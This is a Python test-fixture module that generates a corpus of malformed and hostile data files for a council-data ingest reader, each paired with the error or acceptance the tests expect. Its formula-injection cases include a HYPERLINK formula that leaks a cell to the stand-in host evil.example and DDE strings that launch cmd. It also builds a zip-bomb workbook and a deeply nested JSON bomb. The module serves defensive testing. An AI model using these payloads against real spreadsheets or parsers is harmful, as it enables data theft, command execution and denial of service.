"""The hostile corpus: broken and awkward council exports, each with its expected outcome.

Nothing binary is committed: :func:`build` writes every file into a folder (the test session's
``tmp_path``). Each :class:`Case` says what :func:`joinedup.ingest.readers.read_source` must do
with it — raise ``IngestError`` with ``rule`` (and ``row`` when one applies), or accept it
(``rule=None``), optionally with a check on what was read. ``later`` records the outcome a later
stage must give (the validator), so the same file can be reused there.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl import Workbook

from joinedup.ingest.readers import ReadOptions, SourceInfo

Check = Callable[[duckdb.DuckDBPyConnection, SourceInfo], None]

HEADER = "record_id,given_name,family_name,postcode"


def _rows(n: int, start: int = 1) -> list[str]:
    return [f"R{i:04d},Alex,Smith,SW1A {i % 9}AA" for i in range(start, start + n)]


def _csv(lines: list[str], eol: str = "\n") -> bytes:
    return (eol.join(lines) + eol).encode("utf-8")


def _write(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    """A builder writing ``data`` (or what ``data()`` returns, for the large ones)."""

    def build(path: Path) -> None:
        path.write_bytes(data() if callable(data) else data)

    return build


def _workbook(rows: list[list[Any]], title: str = "Data") -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = title
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _formula_xlsx(path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["record_id", "note"])
    for i, text in enumerate(FORMULAS, start=1):
        ws.cell(row=i + 1, column=1, value=f"R{i}")
        cell = ws.cell(row=i + 1, column=2, value=text)
        cell.data_type = "s"  # stored as text, as a system export would
    wb.save(path)


def _many_sheets(path: Path) -> None:
    wb = Workbook()
    for i in range(59):
        wb.create_sheet(f"Sheet{i + 2}")
    wb.save(path)


def _zip_bomb(path: Path) -> None:
    """A workbook whose sheet XML is 40 MB of whitespace, compressing about 1000 times."""
    valid = zipfile.ZipFile(io.BytesIO(_workbook([["a"], ["1"]])))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in valid.infolist():
            data = valid.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * 40_000_000)
            out.writestr(info.filename, data)


def _cfb(names: list[str]) -> bytes:
    """A minimal Compound File Binary (OLE2) header and one directory sector with ``names``."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HH", header, 0x18, 0x3E, 0x3)  # minor, major version
    struct.pack_into("<H", header, 0x1C, 0xFFFE)  # little-endian
    struct.pack_into("<H", header, 0x1E, 9)  # 512-byte sectors
    struct.pack_into("<I", header, 0x30, 0)  # first directory sector
    directory = bytearray(512)
    for i, name in enumerate(names[:4]):
        raw = name.encode("utf-16-le") + b"\0\0"
        directory[i * 128 : i * 128 + len(raw)] = raw
        struct.pack_into("<H", directory, i * 128 + 64, len(raw))
    return bytes(header) + bytes(directory) + b"\0" * 1024


def _parquet(table: pa.Table) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf)
    return buf.getvalue()


def _zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _damaged_sheet_xml(path: Path) -> None:
    valid = zipfile.ZipFile(io.BytesIO(_workbook([["a", "b"], ["1", "2"], ["3", "4"]])))
    with zipfile.ZipFile(path, "w") as out:
        for name in valid.namelist():
            data = valid.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]
            out.writestr(name, data)


def _damaged_parquet() -> bytes:
    data = bytearray(_parquet(pa.table({"a": [f"v{i}" for i in range(5000)], "n": range(5000)})))
    rng = random.Random(1)
    for _ in range(20):
        data[rng.randrange(100, len(data) - 100)] = rng.randrange(256)
    return bytes(data)


def _deep_json(depth: int) -> bytes:
    return ('[{"id": "1", "tree": ' + "[" * (depth - 1) + "]" * (depth - 1) + "}]").encode()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def _check_formulas(con: duckdb.DuckDBPyConnection, info: SourceInfo) -> None:
    got = [r[0] for r in con.execute("SELECT note FROM src ORDER BY _row").fetchall()]
    assert got == FORMULAS


def _check_cp1252(con: duckdb.DuckDBPyConnection, info: SourceInfo) -> None:
    assert info.encoding == "cp1252"
    rows = con.execute("SELECT amount, note FROM src ORDER BY _row").fetchall()
    assert rows == [("£12.50", "Café – “quoted”"), ("€3", "O’Neil")]
    assert any(w.startswith("encoding:") for w in info.warnings)


def _check_mixed(con: duckdb.DuckDBPyConnection, info: SourceInfo) -> None:
    rows = con.execute("SELECT _row, record_id FROM src ORDER BY _row").fetchall()
    assert rows == [(2, "R0001"), (3, "R0002"), (4, "R0003"), (5, "R0004")]
    assert any(w.startswith("line_endings:") for w in info.warnings)


def _check_dates_kept(con: duckdb.DuckDBPyConnection, info: SourceInfo) -> None:
    rows = con.execute("SELECT _row, date_of_birth FROM src ORDER BY _row").fetchall()
    assert rows == [(2, "29/02/2020"), (3, "31/02/2020"), (4, "01/03/2020")]


def _check_blank(con: duckdb.DuckDBPyConnection, info: SourceInfo) -> None:
    rows = con.execute("SELECT _row, record_id FROM src ORDER BY _row").fetchall()
    assert rows == [(2, "R0001"), (3, "R0002"), (5, "R0003"), (6, "R0004")]


def _check_utf16(con: duckdb.DuckDBPyConnection, info: SourceInfo) -> None:
    assert info.delimiter == "\t" and info.encoding == "utf-16"
    assert con.execute("SELECT family_name FROM src WHERE _row = 3").fetchone() == ("Zoë £",)


def _check_trailing_empty(con: duckdb.DuckDBPyConnection, info: SourceInfo) -> None:
    assert info.columns == HEADER.split(",")


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], None]
    rule: str | None
    """Expected ``IngestError.rule``; ``None`` means the file is accepted."""
    row: int | None = None
    column: str | None = None
    options: ReadOptions | None = None
    check: Check | None = None
    later: tuple[str, int] | None = None
    """(rule, row) a later stage (the validator) must report for this file."""
    note: str = ""


_RNG = random.Random(20261123)
_GARBAGE = bytes(range(256)) * 64
_CONTROL_NOISE = bytes(_RNG.choice(range(1, 32)) for _ in range(4096))

CASES: list[Case] = [
    # --- empty, headers only, binary, truncated
    Case("empty.csv", _write(b""), "empty_file"),
    Case("whitespace.csv", _write(b"  \n\t\n   \r\n"), "empty_file"),
    Case("bom-only.csv", _write(b"\xef\xbb\xbf\r\n"), "empty_file"),
    Case("headers-only.csv", _write(_csv([HEADER])), "headers_only"),
    Case("headers-only.xlsx", _write(_workbook([HEADER.split(",")])), "headers_only"),
    Case("binary-garbage.csv", _write(_GARBAGE), "binary_content", row=1),
    Case(
        "nul-in-row-4.csv",
        _write(_csv([HEADER, *_rows(2), "R0003,Al\x00ex,Smith,SW1A 1AA"])),
        "binary_content",
        row=4,
    ),
    Case("control-noise.csv", _write(_CONTROL_NOISE), "binary_content", row=1),
    Case(
        "truncated-mid-row.csv",
        _write(_csv([HEADER, *_rows(9)])[:-14]),
        "ragged_row",
        row=10,
        note="a copy cut short inside row 10",
    ),
    Case(
        "truncated.xlsx",
        _write(lambda: _workbook([HEADER.split(","), *[r.split(",") for r in _rows(50)]])[:2500]),
        "truncated",
    ),
    Case(
        "truncated.parquet",
        _write(_parquet(pa.table({"a": [str(i) for i in range(1000)]}))[:-40]),
        "truncated",
    ),
    Case("damaged-sheet-xml.xlsx", _damaged_sheet_xml, "corrupt"),
    Case("damaged.parquet", _write(_damaged_parquet), "corrupt"),
    # --- ragged rows, duplicate and empty headers, quotes
    Case(
        "ragged-row-7.csv",
        _write(_csv([HEADER, *_rows(5), "R0006,Alex,Smith,SW1A 1AA,extra", *_rows(3, 7)])),
        "ragged_row",
        row=7,
    ),
    Case(
        "short-row-5.csv",
        _write(_csv([HEADER, *_rows(3), "R0004,Alex,Smith", *_rows(2, 5)])),
        "ragged_row",
        row=5,
    ),
    Case(
        "ragged-after-multiline.csv",
        _write(_csv([HEADER, 'R0001,"Alex\nJo",Smith,SW1A 1AA', *_rows(1, 2), "R0003,Alex,Smith"])),
        "ragged_row",
        row=4,
        note="row numbers count records, not lines",
    ),
    Case(
        "duplicate-header.csv",
        _write(_csv(["record_id,name,postcode,Name", "1,a,b,c"])),
        "duplicate_header",
        row=1,
        column="Name",
    ),
    Case("empty-header.csv", _write(_csv(["record_id,,postcode", "1,a,b"])), "empty_header", row=1),
    Case(
        "reserved-header.csv",
        _write(_csv(["record_id,_row", "1,2"])),
        "reserved_header",
        row=1,
        column="_row",
    ),
    Case(
        "unterminated-quote-6.csv",
        _write(_csv([HEADER, *_rows(4), 'R0005,"Alex,Smith,SW1A 1AA', *_rows(3, 6)])),
        "unterminated_quote",
        row=6,
    ),
    Case(
        "text-after-quote.csv",
        _write(_csv([HEADER, *_rows(1), 'R0002,"Alex"ander,Smith,SW1A 1AA'])),
        "bad_quote",
        row=3,
    ),
    Case(
        "too-many-columns.csv",
        _write(_csv([",".join(f"c{i}" for i in range(600)), ",".join("x" * 600)])),
        "too_many_columns",
        row=1,
    ),
    # --- encodings, line endings, big cells
    Case(
        "cp1252-not-utf8.csv",
        _write(
            "record_id,amount,note\r\nR1,£12.50,Café – “quoted”\r\nR2,€3,O’Neil\r\n".encode(
                "cp1252"
            )
        ),
        None,
        check=_check_cp1252,
        note="expected UTF-8, actually cp1252: detected",
    ),
    Case(
        "utf16-tab.txt",
        _write(
            ("\ufeff" + "record_id\tfamily_name\r\nR1\tSmith\r\nR2\tZoë £\r\n").encode("utf-16-le")
        ),
        None,
        check=_check_utf16,
        note="Excel 'Unicode Text' export",
    ),
    Case(
        "utf8-declared-but-cp1252.csv",
        _write("a,b\n1,£2\n".encode("cp1252")),
        "encoding",
        row=2,
        options=ReadOptions(encoding="utf-8"),
    ),
    Case(
        "mixed-line-endings.csv",
        _write(
            f"{HEADER}\r\nR0001,Alex,Smith,SW1A 1AA\nR0002,Alex,Smith,SW1A 1AA\r"
            "R0003,Alex,Smith,SW1A 1AA\r\nR0004,Alex,Smith,SW1A 1AA\n".encode()
        ),
        None,
        check=_check_mixed,
    ),
    Case(
        "blank-lines.csv",
        _write(_csv([HEADER, *_rows(2), "", *_rows(2, 3), "", ""])),
        None,
        check=_check_blank,
    ),
    Case(
        "trailing-empty-columns.csv",
        _write(_csv([HEADER + ",,", *[r + ",," for r in _rows(3)]], eol="\r\n")),
        None,
        check=_check_trailing_empty,
        note="Excel-style trailing commas",
    ),
    Case(
        "value-under-empty-header.csv",
        _write(_csv([HEADER + ",", *[r + "," for r in _rows(3)], "R0004,Alex,Smith,SW1A,x"])),
        "empty_header",
        row=5,
    ),
    Case(
        "10mb-cell.csv",
        _write(lambda: _csv([HEADER, *_rows(1), "R0002,Alex," + "x" * 10_000_000 + ",SW1A 1AA"])),
        "cell_too_large",
        row=3,
        column="family_name",
    ),
    # --- formula injection and dates (validator matters, not reader matters)
    Case(
        "formula-injection.csv",
        _write(
            _csv(
                [
                    "record_id,note",
                    *[
                        f'R{i},"{t.replace(chr(34), chr(34) * 2)}"'
                        for i, t in enumerate(FORMULAS, 1)
                    ],
                ]
            )
        ),
        None,
        check=_check_formulas,
        note="accepted, text kept verbatim; escaped on export",
    ),
    Case(
        "formula-injection.xlsx",
        _formula_xlsx,
        None,
        check=_check_formulas,
        note="accepted, text kept verbatim; escaped on export",
    ),
    Case(
        "impossible-date.csv",
        _write(
            _csv(["record_id,date_of_birth", "R1,29/02/2020", "R2,31/02/2020", "R3,01/03/2020"])
        ),
        None,
        check=_check_dates_kept,
        later=("invalid_date", 3),
        note="the reader keeps the text; the validator rejects row 3",
    ),
    # --- XLSX hostile
    Case("zip-bomb.xlsx", _zip_bomb, "zip_bomb"),
    Case(
        "zip-too-big.xlsx",
        _write(lambda: _workbook([["a"], *[[f"value {i}"] for i in range(20_000)]])),
        "zip_bomb",
        options=ReadOptions(max_uncompressed_bytes=200_000),
        note="the expanded-size limit, set low",
    ),
    Case("many-sheets.xlsx", _many_sheets, "too_many_sheets"),
    Case(
        "password-protected.xlsx",
        _write(_cfb(["Root Entry", "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"])),
        "encrypted_xlsx",
    ),
    Case("legacy-renamed.xlsx", _write(_cfb(["Root Entry", "Workbook"])), "unsupported_format"),
    Case("not-a-zip.xlsx", _write(_csv([HEADER, *_rows(2)])), "not_a_zip"),
    Case("zip-not-workbook.xlsx", _write(_zip_of({"word/document.xml": b"<w/>"})), "not_xlsx"),
    Case(
        "value-beyond-header.xlsx",
        _write(_workbook([["a", "b"], ["1", "2"], ["3", "4", None, "stray"]])),
        "empty_header",
        row=3,
    ),
    Case("legacy.xls", _write(_cfb(["Root Entry", "Workbook"])), "unsupported_format"),
    # --- mismatched content
    Case("zip-named-csv.csv", _write(_workbook([["a"], ["1"]])), "format_mismatch"),
    Case("csv-named-parquet.parquet", _write(_csv([HEADER, *_rows(2)])), "format_mismatch"),
    # --- JSON
    Case("json-too-deep.json", _write(_deep_json(50)), "json_too_deep", row=1, column="tree"),
    Case(
        "json-deep-bomb.json",
        _write(lambda: b"[" + b"[" * 200_000 + b"]" * 200_000 + b"]"),
        "json_too_deep",
        row=1,
        note="would exhaust a recursive parser's stack",
    ),
    Case(
        "json-nested.json",
        _write(
            json.dumps(
                [
                    {"id": "1", "name": "A"},
                    {"id": "2", "address": {"line1": "x", "postcode": "SW1A 1AA"}},
                ]
            ).encode()
        ),
        "json_not_flat",
        row=2,
        column="address",
    ),
    Case("json-not-objects.json", _write(b"[1, 2, 3]"), "json_not_object", row=1),
    Case(
        "json-missing-comma.json",
        _write(b'[{"a": "1"},\n {"a": "2"}\n {"a": "3"}]'),
        "json_syntax",
        row=2,
    ),
    Case("json-truncated.json", _write(b'[{"a": "1"}, {"a": "2"}, {"a": "3'), "truncated", row=3),
    Case(
        "json-duplicate-key.json",
        _write(b'[{"a": "1", "A": "2"}]'),
        "duplicate_header",
        row=1,
        column="A",
    ),
    Case("json-empty-array.json", _write(b"[]"), "empty_file"),
    Case(
        "ndjson-bad-line-4.ndjson",
        _write(b'{"a": "1"}\n{"a": "2"}\n\n{"a": 3,}\n{"a": "5"}\n'),
        "json_syntax",
        row=4,
    ),
    # --- Parquet
    Case(
        "parquet-nested.parquet",
        _write(_parquet(pa.table({"id": ["1"], "address": [{"line1": "x", "pc": "y"}]}))),
        "nested_column",
        column="address",
    ),
    # --- limits
    Case(
        "over-size-limit.csv",
        _write(_csv([HEADER, *_rows(100)])),
        "file_too_large",
        options=ReadOptions(max_file_bytes=1000),
    ),
    Case(
        "too-many-rows.csv",
        _write(_csv([HEADER, *_rows(100)])),
        "too_many_rows",
        options=ReadOptions(max_rows=50),
    ),
    Case("unknown-extension.dat", _write(b"a,b\n1,2\n"), "unsupported_format"),
]


def build(folder: Path) -> dict[str, Path]:
    """Write every corpus file into ``folder``; returns name → path."""
    folder.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for case in CASES:
        path = folder / case.name
        case.build(path)
        paths[case.name] = path
    return paths
